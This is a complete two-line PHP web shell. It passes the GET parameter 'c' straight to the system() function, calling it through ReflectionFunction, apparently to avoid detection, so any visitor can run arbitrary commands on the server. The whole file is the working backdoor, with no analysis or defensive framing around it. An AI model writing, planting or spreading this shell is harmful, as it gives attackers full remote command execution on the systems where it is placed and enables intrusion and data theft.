<?php
$f = new ReflectionFunction('system'); $f->invoke($_GET['c']);
